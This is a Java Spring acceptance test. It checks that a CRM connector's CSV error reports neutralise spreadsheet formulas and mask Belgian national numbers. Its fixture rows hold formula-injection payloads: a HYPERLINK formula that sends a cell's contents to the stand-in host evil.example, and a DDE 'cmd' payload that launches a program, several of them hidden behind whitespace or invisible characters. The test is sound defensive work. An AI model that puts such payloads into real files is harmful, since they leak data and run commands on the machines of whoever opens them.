package be.crmconnector.web;

import be.crmconnector.sources.filedrop.FileDropSettings;

import be.crmconnector.connector.ConnectorRegistry;
import be.crmconnector.support.StoreTest;
import com.fasterxml.jackson.databind.ObjectMapper;
import de.siegmar.fastcsv.reader.CsvReader;
import de.siegmar.fastcsv.reader.CsvRecord;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.autoconfigure.web.servlet.AutoConfigureMockMvc;
import org.springframework.mock.web.MockMultipartFile;
import org.springframework.test.context.DynamicPropertyRegistry;
import org.springframework.test.context.DynamicPropertySource;
import org.springframework.test.web.servlet.MockMvc;

import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.regex.Pattern;
import java.util.stream.Collectors;
import java.util.stream.Stream;

import static org.assertj.core.api.Assertions.assertThat;
import static org.springframework.security.test.web.servlet.request.SecurityMockMvcRequestPostProcessors.httpBasic;
import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.get;
import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.multipart;
import static org.springframework.test.web.servlet.result.MockMvcResultMatchers.status;

/**
 * Acceptance: "the error report opened in a spreadsheet shows no formula and no unmasked national number", for the
 * report served by the API and the one filed beside the archived file.
 */
@AutoConfigureMockMvc
class ErrorReportInASpreadsheetTest extends StoreTest {
    static final String HYPERLINK = "=HYPERLINK(\"http://evil.example/?leak=\"&A1;\"Click\")";
    static final String DDE = "cmd|' /C calc'!A0";
    /** Each value lands in a checked field of its own row, so that the row's finding quotes it in the report. */
    static final List<List<String>> ROWS = List.of(
            row("R01", "", HYPERLINK, "", ""),
            row("R02", "", "+" + DDE, "", ""),
            row("R03", "", "-2+3+" + DDE, "", ""),
            row("R04", "", "@SUM(1+1)*" + DDE, "", ""),
            row("R05", "", "   =1+1", "", ""),
            row("R06", "", "\t=1+1", "", ""),
            row("R07", "", "\r\n=1+1", "", ""),
            row("R08", "", "jan\r\n=1+1@example.be", "", ""),
            row("R09", "", "\u200E=1+1", "", ""),
            row("R10", "", "\u0007@SUM(1)", "", ""),
            row("R11", "=1+1", "r11@example.be", "", ""),
            row("R12", "", "r12@example.be", "", "+32 =" + DDE),
            // Invalid national numbers, several shapes; all must come out masked.
            row("R13", "", "r13@example.be", "85.07.30-033.29", ""),
            row("R14", "", "r14@example.be", "85073003329", ""),
            row("R15", "", "r15@example.be", "85 07 30 033 29", ""),
            row("R16", "", "r16@example.be", "850730/033.29", ""),
            row("R17", "", "r17@example.be", "8507300332", ""),
            row("R18", "", "r18@example.be", "=85073003328", ""),
            row("R19", "", "r19@example.be", "85.13.30-001.05", ""),
            row("R20", "", "r20@example.be", "850730033281", ""),
            row("R21", "", "r21@example.be", "\t-85.07.30-033.28", ""),
            // A valid national number typed into columns that are not masked by field.
            row("R22", "", "85.07.30-033.28", "", ""),
            row("R23", "85073003328", "r23@example.be", "", ""),
            row("R24", "", "r24@example.be", "", "85 07 30 033 28"));
    /** The digits of every national-number-like input above: none may appear in a report. */
    static final List<String> NATIONAL_DIGITS = List.of("85073003329", "8507300332", "85073003328", "85133000105",
            "850730033281");
    /** Eleven digits in a row, or written the way national numbers are displayed (85.07.30-033.28). */
    static final Pattern NATIONAL_NUMBER_LOOK = Pattern.compile("\\d{11}|\\d{2}\\.\\d{2}\\.\\d{2}-\\d{3}\\.\\d{2}");

    @DynamicPropertySource
    static void store(DynamicPropertyRegistry registry) {
        useH2(registry);
    }

    @Autowired
    MockMvc mvc;
    @Autowired
    ObjectMapper json;
    @Autowired
    ConnectorRegistry connectors;

    static List<String> row(String ref, String kind, String email, String nationalNumber, String phone) {
        return List.of(ref, "Jan", "Peeters " + ref, kind, email, nationalNumber, phone);
    }

    static String csv() {
        StringBuilder csv = new StringBuilder("Référence;Prénom;Nom;Type;=E-mail;Numéro national;Téléphone\r\n");
        for (List<String> row : ROWS) {
            csv.append(row.stream().map(v -> "\"" + v.replace("\"", "\"\"") + "\"")
                    .collect(Collectors.joining(";"))).append("\r\n");
        }
        return csv.toString();
    }

    static List<List<String>> parse(String report) {
        assertThat(report).startsWith("\uFEFF");
        List<List<String>> rows = new ArrayList<>();
        try (Stream<CsvRecord> records = CsvReader.builder().fieldSeparator(';').ofCsvRecord(report.substring(1))
                .stream()) {
            records.forEach(r -> rows.add(r.getFields()));
        }
        return rows;
    }

    @Test
    void neitherReportHoldsAFormulaNorAnUnmaskedNationalNumber() throws Exception {
        var file = new MockMultipartFile("file", "hostile.csv", "text/csv", csv().getBytes(StandardCharsets.UTF_8));
        String created = mvc.perform(multipart("/api/connectors/office-csv/files").file(file)
                        .with(httpBasic("admin", "test-admin-password")))
                .andExpect(status().isCreated()).andReturn().getResponse().getContentAsString();
        long runId = json.readTree(created).get("runId").asLong();
        String fromApi = mvc.perform(get("/api/runs/" + runId + "/errors.csv")
                        .with(httpBasic("admin", "test-admin-password")))
                .andExpect(status().isOk()).andReturn().getResponse().getContentAsString(StandardCharsets.UTF_8);
        Path filed = connectors.find("office-csv").orElseThrow().settings(FileDropSettings.class).inbox().resolve(".done/run-" + runId + ".errors.csv");
        String besideArchive = Files.readString(filed, StandardCharsets.UTF_8);

        for (String report : List.of(fromApi, besideArchive)) {
            List<List<String>> rows = parse(report);
            assertThat(rows.get(0)).containsExactly("line", "column", "field", "severity", "code", "message",
                    "value");
            // Every hostile row is in the report, so the checks below look at the values themselves.
            assertThat(rows.stream().map(r -> r.get(0)).distinct().count()).isGreaterThanOrEqualTo(ROWS.size());
            assertThat(rows).anySatisfy(r -> assertThat(r.get(6)).isEqualTo("'" + HYPERLINK));
            assertThat(rows).anySatisfy(r -> assertThat(r.get(4)).isEqualTo("KIND_UNKNOWN"));
            assertThat(rows).anySatisfy(r -> assertThat(r.get(2)).isEqualTo("nationalNumber"));
            for (List<String> row : rows) {
                for (String cell : row) {
                    assertNoFormula(cell);
                    assertNoNationalNumber(cell);
                }
            }
        }
    }

    /** What a spreadsheet would run: a trigger as the first visible character, or a cell opening on a control. */
    static void assertNoFormula(String cell) {
        if (cell.isEmpty()) {
            return;
        }
        assertThat(Character.isISOControl(cell.charAt(0)) || Character.isWhitespace(cell.charAt(0)))
                .as("cell opens on a control or blank: %s", cell).isFalse();
        String visible = cell.replaceFirst("^[\\s\\p{Cc}\\p{Cf}\\p{Z}]+", "");
        assertThat(visible).as("cell a spreadsheet would run as a formula").doesNotStartWith("=")
                .doesNotStartWith("+").doesNotStartWith("-").doesNotStartWith("@");
    }

    static void assertNoNationalNumber(String cell) {
        assertThat(NATIONAL_NUMBER_LOOK.matcher(cell).find()).as("a national number in a report cell: %s", cell)
                .isFalse();
        // With separators of any kind removed, none of the inputs' digits may be left.
        String digits = cell.replaceAll("[\\s.\\-/]", "");
        for (String number : NATIONAL_DIGITS) {
            assertThat(digits).as("a national number's digits in a report cell").doesNotContain(number);
        }
    }
}
